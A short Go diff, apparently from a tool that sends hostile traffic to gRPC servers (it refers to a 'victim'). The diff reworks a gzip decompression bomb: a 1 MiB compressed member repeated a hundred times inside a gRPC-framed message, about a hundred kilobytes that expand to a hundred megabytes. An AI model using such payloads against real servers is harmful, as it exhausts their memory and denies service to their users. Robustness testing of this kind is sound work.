@@ -344,15 +344,15 @@ func giantMessages(ctx context.Context, v *victim) {
 	}
 }
 
-// gzipBomb is a message as gRPC frames it, made once.
+// gzipBomb is a message as gRPC frames it, made once: a hundred times the same
+// member, because an attack lasts no longer than packing a hundred megabytes.
 var gzipBomb = sync.OnceValue(func() []byte {
-	var small bytes.Buffer
-	w := gzip.NewWriter(&small)
-	for range 1600 {
-		_, _ = w.Write(make([]byte, 64<<10)) // into memory
-	}
+	var member bytes.Buffer
+	w := gzip.NewWriter(&member)
+	_, _ = w.Write(make([]byte, 1<<20)) // into memory
 	_ = w.Close()
-	return append([]byte{1, 0, byte(small.Len() >> 16), byte(small.Len() >> 8), byte(small.Len())}, small.Bytes()...)
+	small := bytes.Repeat(member.Bytes(), 100)
+	return append([]byte{1, 0, byte(len(small) >> 16), byte(len(small) >> 8), byte(len(small))}, small...)
 })
 
 // gzipBombs send a hundred kilobytes that stand for a hundred megabytes.
